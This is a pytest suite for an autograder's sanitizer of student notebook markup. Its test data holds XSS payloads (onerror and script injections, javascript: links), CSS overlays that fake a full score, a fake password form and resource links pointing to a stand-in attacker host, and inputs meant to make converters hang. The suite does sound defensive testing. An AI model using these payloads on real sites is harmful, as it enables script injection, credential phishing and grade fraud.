"""What a student writes and prints, made harmless: what is allowed stays, nothing else does, and it takes no age."""

import base64
import io
import re
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from autograder.pipeline import markup
from autograder.pipeline.markup import CONTAINER, MAX_SPANNED, OWN_CLASSES, STYLES, TAGS, Allowance
from autograder.verdict import Difference, Picture, Result, Verdict
from tests.pages import words

REPOSITORY = Path(__file__).resolve().parents[1]
OUTPUT_OF_CELL = 1_000_000  # characters; what JudgedExecute lets through


def picture(width: int = 4, height: int = 4, kind: str = "PNG") -> str:
    """A small picture as base64."""
    file = io.BytesIO()
    Image.new("1" if kind == "PNG" else "L", (width, height)).save(file, kind)
    return base64.b64encode(file.getvalue()).decode()


PNG = picture()
# Attempts to leave a cell, in HTML that is as good in Markdown.
ESCAPES = {
    "fixed": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#f00;z-index:99999">x</div>',
    "half a declaration": '<p style="color:red{;position:fixed">x</p><p style="margin:c(;position:fixed">x</p>',
    "absolute": '<div style="position:absolute;top:-900px;left:0;background:#f00">Score: 18.0 / 18.0</div>',
    "margins": '<div style="margin:-900px -900px 0 -900px;background-color:#f00;padding:900px">15.0 / 18.0</div>',
    "bottom margin": '<p style="margin-bottom:-4000px;background-color:#f00;padding:2000px">x</p>',
    "collapsing": '<div style="margin:-5000px 0"></div><p style="margin:5000px 0">x</p>',
    "huge font": '<p style="font-size:99999px;color:#f00">x</p>',
    "transform": '<p style="transform:translateY(-900px) scale(99);filter:invert(1);color:#f00">x</p>',
    "float": '<div style="float:left;height:5000px;width:100%;background-color:#f00">x</div>',
    "wide": '<table style="min-width:99999px;background-color:#f00" width="99999"><tr><td width=99999>x</table>',
    "outline": '<p style="outline:9999px solid red;box-shadow:0 0 0 9999px red;border:9999px solid #f00">x</p>',
    "style": "<style>* { color: red !important; display: none } @import url(//evil.test/x)</style>",
    "style in svg": "<svg><style>h1{color:red}</style><foreignObject><div style='position:fixed'>x</div></svg>",
    "style in math": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>--></style></math>",
    "base": "<base href='https://evil.test/' target='_blank'><a href='x'>x</a>",
    "host": "<a href='//evil.test/share'>x</a><a href='\\\\evil.test\\share'>x</a><a href=' /\t/evil.test'>x</a>",
    "form": "<form action='https://evil.test/'><input name=password autofocus><button>Log in</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "link": "<link rel=stylesheet href='https://evil.test/x.css'><link rel=prefetch href='https://evil.test/x'>",
    "picture": "<img src='https://evil.test/x.png'><img srcset='https://evil.test/x.png 1x'><picture>",
    "background": "<td background='https://evil.test/x'><p style='background:url(https://evil.test/x)'>x</p>",
    "list style": "<ul style='list-style:url(https://evil.test/x)'><li style='list-style-image:url(//evil)'>x",
    "variable": "<p style='--ink:red;color:var(--paper);border:1px solid var(--late)'>x</p>",
    "frames": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x><video src=x>",
    "script": "<script>document.body.innerHTML=''</script><img src=x onerror='document.body.remove()'>",
    "closing": "</div></div></section></main></body></html><h1>layer_norm (Score: 18.0 / 18.0)</h1>",
    "unclosed": "<table><tr><td><b><i><a href='#top'><div><details><summary><p><ul><li><pre>",
    "not closed at all": "<p title='<div",
    "comment": "<!-- <p>--!> <![CDATA[ <? <!DOCTYPE html><plaintext>",
    "raw text": "<title><textarea><noscript><xmp><noembed><template><select><option>x",
    "fake cell": "<section class='cell of-interest'><h2 id='check' class='panel score'>Score: 9.0 / 9.0</h2></section>",
    "own ids": "<p id='check'>x</p><a name='top'>x</a><p id='top'>x</p>",
    "tooltip": "<p title='Score: 18 of 18' tabindex=1 accesskey=x contenteditable draggable=true>x</p>",
    "popover": "<div popover id=p>x</div><button popovertarget=p>x</button><dialog open>18.0 / 18.0</dialog>",
    "formula": "<math><mspace width='-9999em'/><mpadded voffset='900em' width='-900em'><mi>x</mi></mpadded></math>",
    "formula's style": "<math style='position:fixed'><mrow href='javascript:alert(1)' class='score'><mi>x</mi></math>",
    "huge spans": "<table><tr><td colspan=99999 rowspan=99999>x</td></tr></table>",
    "right to left": "\u202e\u2067 score <bdo dir=rtl>x</bdo>",
    "marks": "x" + "\u0300" * 400,
    "one line": "<p style='white-space:nowrap'>" + "x" * 20_000,
}
TEX = [
    r"$\style{position:fixed}{x}\class{score}{y}\href{javascript:alert(1)}{z}\colorbox{red}{x}$",
    r"$\text{<script>alert(1)</script>}\text{</math><img src=x onerror=alert(1)>}\unicode{x}$",
    r"$$\kern{-9999em}\raise{900em}{x}\rule{9999em}{9999em}\hspace{-9999em}x$$",
]
# Little text that takes some converters minutes, up to what a cell may hold or print.
SLOW_MARKDOWN = [
    "\\begin{a}", "\\begin{a}\n", "$", "$$ ", "$x$ ", "\\\\(", "$${", "[", "![[](", "*a_ ", "**a *b ", "> ", "- ",
    "1. ", "`a``b```", "<", '<a x="', "&", "|", "|a|\n|-|\n", "[a]: u\n", "[a](", "[a](<b", "a\n=", "a\n-", "~~a~",
    "\\", "<b>", "<div>\n", "<!--", "<?", "<![CDATA[", "\t", "# ", "[^1]: a\n", "_", "http://a.", "\n",
    "```\n~~~\n", "$\\frac", "${$", "<b title=1>", "<table>", "</p>", "<p><b>", "<li>", "\x00",
    "![a](attachment:b) ", "data:image/png;base64,",
]  # fmt: skip
SLOW_HTML = [
    "<b>", "<div>", "<p>", "<table>", "<td>", "<a href=x>", "<b><p>", "<i><b><a><em>", "<ul><li>", "<details>", "</p>",
    "<!--", "<", "<a ", "<p style='", "&", "<math><mi>", "<svg>", "<select>", "<pre>\n", "<table><b>", "\x00", "a=b ",
    "<table><tr><td rowspan=9>", "<tr><td colspan=1000 rowspan=65534>",
]  # fmt: skip
SLOW_TEXT = ["\x1b[m", "\x1b[31m", "\x1b[38;5;1m", "\x1b[1;31;42m", "\x1b[", "\x1b[" + "1;" * 99, "<", "\n", "x", "\r"]
SLOW_CODE = [
    "'",
    '"',
    '"""',
    "'''\\\n",
    "\\",
    'f"{',
    "(",
    "a.",
    "a?",
    " \n",
    "#",
    "1",
    '"\\N{',
    "é",
    "\x00",
    "\t",
    "rb",
]


class Parsed(HTMLParser):
    """The elements of a page, with their attributes, and what stays open."""

    VOID = frozenset({"meta", "img", "br", "hr"})

    def __init__(self, text: str, whole: bool = True) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.open: list[str] = []
        self.whole = whole
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.whole:
            return
        assert self.open, f"</{tag}> closes what a student did not open"
        assert self.open.pop() == tag


def look_over(shown: str) -> None:
    """Everything in it is on the list of what is allowed, and it ends where it began."""
    assert shown.startswith(f'<div class="own" style="{CONTAINER}">')
    parsed = Parsed(shown)
    assert parsed.open == []
    spans = [int(about[name]) for _, about in parsed.elements for name in ("colspan", "rowspan") if name in about]
    assert sum(spans) <= MAX_SPANNED
    for tag, attributes in parsed.elements[1:]:
        if attributes.get("class") == "own":
            assert attributes["style"] == CONTAINER
            continue
        assert tag in TAGS
        for name, value in attributes.items():
            match name:
                case "style":
                    assert {rule.split(":")[0].strip() for rule in value.split(";") if rule} <= STYLES
                case "class":
                    ansi = all(word.startswith("ansi-") for word in value.split())
                    assert value == "note" or ansi or set(value.split()) <= OWN_CLASSES[tag]
                case "src":
                    assert re.fullmatch(r"data:image/(png|jpeg|gif);base64,[A-Za-z0-9+/=]+", value)
                case "href":
                    assert re.match(r"https?:|mailto:|#", value)
                case "rel":
                    assert value == "noopener noreferrer"
                case _:
                    assert name in TAGS[tag]


# --- What is allowed, and nothing else -------------------------------------------------------------------------------


@pytest.mark.parametrize("source", [*ESCAPES.values(), *TEX], ids=[*ESCAPES, *map(str, range(len(TEX)))])
def test_only_what_is_allowed_gets_out_of_an_attack(source: str) -> None:
    look_over(markup.prose(source, Allowance()))
    look_over(markup.latex(source, Allowance()))
    look_over(markup.text(source, Allowance()))
    shown = markup.html_output(source, Allowance())
    assert shown is not None
    look_over(shown)


def test_a_picture_takes_room_each_time_that_it_is_shown() -> None:
    room = Allowance(pictures=3 * len(PNG) + 100)
    shown = markup.prose("![a](attachment:a.png)" * 12, room, {"a.png": {"image/png": PNG}})
    assert shown.count(PNG) in (2, 3) and "pictures are left out" in shown
    room = Allowance(pictures=3 * len(PNG) + 100)
    html = markup.html_output(f'<img src="data:image/png;base64,{PNG}">' + '<img src="picture:0">' * 60, room)
    assert html is not None and html.count(PNG) in (2, 3)


@pytest.mark.parametrize(("mime", "form"), [("image/gif", "GIF"), ("image/png", "PNG")])
def test_a_picture_that_moves_is_not_shown(mime: str, form: str) -> None:
    frames = [Image.new("L", (8, 8), shade) for shade in (0, 90, 200)]
    for more in ([], frames[1:]):
        data = io.BytesIO()
        frames[0].save(data, form, save_all=True, append_images=more)
        shown = markup.picture(mime, base64.b64encode(data.getvalue()).decode(), Allowance())
        assert (shown is None) == bool(more)


def test_markdown_that_grows_as_it_is_rendered_is_bounded() -> None:
    room = Allowance()
    source = "[a]: http://x.de/" + "y" * 27_500 + "\n\n" + "[a] " * 490
    assert sum(len(markup.prose(source, room)) for _ in range(3)) < 1.2 * Allowance.html


PIECES = st.sampled_from(
    [piece for text in (*ESCAPES.values(), *TEX) for piece in re.findall(r"<[^>]*>?|[^<]+", text[:500])]
    + [*SLOW_MARKDOWN, *SLOW_HTML, *SLOW_TEXT, "\n\n", "    ", "`", "\\", "'", '"', ">", "=", "/>", "</math>", "</div>"]
)


@settings(deadline=None, max_examples=200)
@given(st.lists(PIECES, max_size=30).map("".join))
def test_only_what_is_allowed_gets_out_of_any_mixture(source: str) -> None:
    look_over(markup.prose(source, Allowance()))
    look_over(markup.latex(source, Allowance()))
    look_over(markup.text(source, Allowance()))
    assert Parsed(markup.code(source, Allowance())).open == []
    if (shown := markup.html_output(source, Allowance())) is not None:
        look_over(shown)


# --- What is kept ----------------------------------------------------------------------------------------------------


def test_a_verdict_comes_through_whole() -> None:
    shown = Picture("result", ((1.0, 2.0), (3.0, 4.0)), ((1.0, -2.0), (3.0, float("nan"))))
    difference = Difference("ordinary values", "[0, 1]", "2.0", "-2.0", "All differ.", picture=shown)
    verdict = Verdict("First", "no", (Result("a `b` < c", 1.0, False),), difference=difference, printed="<x>").html()
    kept = markup.html_output(verdict, Allowance())
    assert kept is not None

    def elements(text: str) -> list:
        return [
            (tag, {name: re.sub(r"[\s;]|\b0(?=\.)", "", value) for name, value in attributes.items()})
            for tag, attributes in Parsed(text).elements
        ]

    assert elements(kept)[1:] == elements(verdict)
    assert words(kept) == words(verdict)


HEAD, BODY = '<thead><tr><th scope="col">a</th></tr></thead>', "<tbody><tr><td>1</td></tr></tbody>"
FRAME = f'<table border="1" class="dataframe">{HEAD}{BODY}</table>'
# What notebooks ordinarily hold, and how much of it is there afterwards.
KEPT = {
    "prose": {
        "[a](https://x.de/y)": 'href="https://x.de/y"',
        "[a](http://x.de)": 'href="http://x.de"',
        "<me@uni.example>": 'href="mailto:me@uni.example"',
        "[a](#part)": 'href="#part"',
        "~~no~~ **yes** *so*": "<s>no</s> <strong>yes</strong> <em>so</em>",
        "| a |\n|:-:|\n| 1 |": '<th style="text-align:center">a</th>',
        "3. third": '<ol start="3">',
        "```python\ndef f(): pass\n```": '<span class="k">def</span> <span class="nf">f</span>',
        "```py\nclass A: ...\n```": '<span class="k">class</span> <span class="nf">A</span>',
        "```\ndef f\n```": "<pre>def f",
        "<details open><summary>a</summary>b</details>": "<summary>a</summary>b</details>",
        f'<img src="data:image/png;base64,{PNG}" alt="mine" width="30">': 'alt="mine" width="30"',
        "a<sub>1</sub> <kbd>R</kbd>": "a<sub>1</sub> <kbd>R</kbd>",
    },
    "html_output": {
        FRAME: FRAME,
        '<b style="color:red">x</b>': 'style="color:red"',
        "<figure><figcaption>x</figcaption></figure>": "<figcaption>x</figcaption>",
    },
    "latex": {
        r"$$\boldsymbol{x}$$": 'class="bold">x</mi>',
        r"\mathbf{12}": '<mn class="bold">12</mn>',
        r"\texttt{a}": '<mtext class="monospace">a</mtext>',
        r"\begin{cases}a\end{cases}": '<mtd class="left">',
        r"$\sum_{i=1}^n x_i$": '<math display="block">',
    },
    "code": {
        "# why\nx": '<span class="c1"># why</span>\nx',
        "x = 'a' + 12": """x = <span class="s">'a'</span> + <span class="mi">12</span>""",
        "for _ in x: pass": '<span class="k">for</span> _ <span class="k">in</span> x: <span class="k">pass</span>',
        "async def run(): ...": '<span class="k">def</span> <span class="nf">run</span>',
        "a < b & c": "a &lt; b &amp; c",
    },
    "text": {"\x1b[31mred\x1b[0m": '<span class="ansi-red-fg">red</span>', "a\tb\n": "a\tb\n"},
}


@pytest.mark.parametrize(("kind", "source"), [(kind, source) for kind in KEPT for source in KEPT[kind]])
def test_what_notebooks_ordinarily_hold_comes_through(kind: str, source: str) -> None:
    assert KEPT[kind][source] in str(getattr(markup, kind)(source, Allowance()))


@pytest.mark.parametrize("end", [True, False])
def test_of_a_long_text_it_is_said_on_which_side_something_is_missing(end: bool) -> None:
    shown = words(markup.text("a" * 30_000, Allowance(), end))
    assert ("10,000 characters before these are left out." in shown) == end
    assert ("10,000 characters are left out." in shown) != end


def test_every_formula_of_the_course_becomes_mathml() -> None:
    seen = 0
    for folder in ("lectures", "solutions"):
        for path in sorted((REPOSITORY / folder).rglob("*.ipynb")):
            for given_cell in nbformat.read(path, as_version=4).cells:
                if given_cell.cell_type != "markdown":
                    continue
                shown = markup.prose(given_cell.source, Allowance())
                formulas = re.findall(r"<math.*?</math>", shown, re.DOTALL)
                seen += len(formulas)
                assert not [formula for formula in formulas if re.search(r"[\\$]|</?m(?:error|enclose)", formula)], path
                # No dollar and no backslash is left outside of code.
                prose = re.sub(r"<(code|pre|math)\b.*?</\1>", "", str(shown), flags=re.DOTALL)
                assert not re.search(r"\$|\\[a-z]", prose), (path, prose)
    assert seen > 500


@pytest.mark.parametrize(
    "source", ["$x$ costs 3", "a $x$ b $y$ c", "> $x$ and $y$\n> $$z$$", "- a\n\n  $$x$$\n\n- $y$"]
)
def test_formulas_are_found_where_jupyterlab_finds_them(source: str) -> None:
    assert markup.prose(source, Allowance()).count("<math") == len(re.findall(r"\$+[xyz]\$+", source))


@pytest.mark.parametrize("source", ["`$x$`", "```\n$x$\n```", r"\$x\$", "3 $", "$$", "$$ $$", "    $x$", "\\begin{a}"])
def test_what_is_no_formula_stays_text(source: str) -> None:
    assert "<math" not in markup.prose(source, Allowance())


def test_a_formula_over_several_lines_is_one() -> None:
    shown = markup.prose("Text\n$$\n\\begin{aligned}\na &= b \\\\\n- c &= d\n\\end{aligned}\n$$\nmore", Allowance())
    assert shown.count("<math") == 1
    assert "<li>" not in shown


def test_an_unreadable_formula_is_shown_as_it_stands() -> None:
    assert r"<code>\frac{</code>" in markup.prose(r"a $\frac{$ b", Allowance())


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "GIF"])
def test_pictures_in_html_and_markdown_come_through(kind: str) -> None:
    address = f"data:image/{kind.lower()};base64,{picture(kind=kind)}"
    assert address in markup.prose(f"![x]({address})", Allowance())
    assert address in str(markup.html_output(f'<figure><img alt="x" src="{address}"></figure>', Allowance()))


def test_pictures_are_bounded_in_sum() -> None:
    allowance = Allowance(pictures=3 * len(PNG))
    shown = [markup.picture("image/png", PNG, allowance) for _ in range(5)]
    assert [one is not None for one in shown] == [True, True, True, False, False]
    allowance = Allowance(pixels=3 * 4 * 4)  # what a browser draws, however small it shows them
    shown = [markup.picture("image/png", PNG, allowance) for _ in range(5)]
    assert [one is not None for one in shown] == [True, True, True, False, False]


# --- Bounds ----------------------------------------------------------------------------------------------------------


def test_cells_of_tables_span_few_others_in_sum() -> None:
    """A few thousand that span 65,534 rows each take a browser more than a minute and gigabytes."""
    honest = "<table><tr><th rowspan=30>a</th><td colspan=4>b</td></tr></table>" * 5
    shown = markup.html_output(honest, Allowance())
    assert shown is not None and shown.count('rowspan="30"') == shown.count('colspan="4"') == 5
    look_over(markup.html_output("<table>" + "<tr><td rowspan=99 colspan=٣ rowspan=-1>" * 3_000, Allowance()) or "")


def test_text_says_what_is_missing() -> None:
    shown = words(markup.text("a" * 30_000, Allowance()))
    assert "10,000 characters are left out" in shown
    assert shown.endswith("a" * 20_000)
    assert words(markup.text("x" * 30_000 + "the end", Allowance(), end=True)).endswith("the end")


def test_too_much_markup_is_shown_as_text() -> None:
    assert "<td>" not in markup.prose("<table>" + "<td>" * 20_000, Allowance())
    assert markup.html_output("<b title=1>" * 800 + "<p>" * 800, Allowance()) is None


SLOW = """
import sys
from autograder.pipeline import markup
from tests import test_markup as t
n = t.OUTPUT_OF_CELL
for unit in t.SLOW_MARKDOWN:
    markup.prose((unit * n)[:markup.MAX_MARKDOWN], markup.Allowance()), markup.prose((unit * n)[:n], markup.Allowance())
for unit in t.SLOW_HTML:
    for much in (markup.MAX_HTML, n):
        markup.html_output((unit * n)[:much], markup.Allowance())
    markup.html_output(unit * (markup.MAX_TAGS // max(1, unit.count("<"))), markup.Allowance())
many = " ".join(f"a{i}=1" for i in range(60_000))
markup.html_output(f"<p {many[:190_000]}>x", markup.Allowance())
markup.html_output("".join(f"<b title={i}>" for i in range(350)) + "<p>" * 350, markup.Allowance())
for unit in t.SLOW_TEXT:
    markup.text((unit * n)[:n], markup.Allowance())
for unit in t.SLOW_CODE:
    markup.code((unit * n)[:n], markup.Allowance())
for unit in ("{", "\\\\frac{", "x_", "\\\\left(", "\\\\sqrt{", "&", "'", "\\\\begin{matrix}", "\\\\overset{a}", "^"):
    markup.mathml((unit * n)[:markup.MAX_TEX]), markup.latex((unit * n)[:n], markup.Allowance())
"""


@pytest.mark.full
def test_nothing_takes_for_ever() -> None:
    """All of it takes seconds; each alone took minutes, or did not end."""
    subprocess.run([sys.executable, "-c", SLOW], cwd=REPOSITORY, check=True, timeout=300)
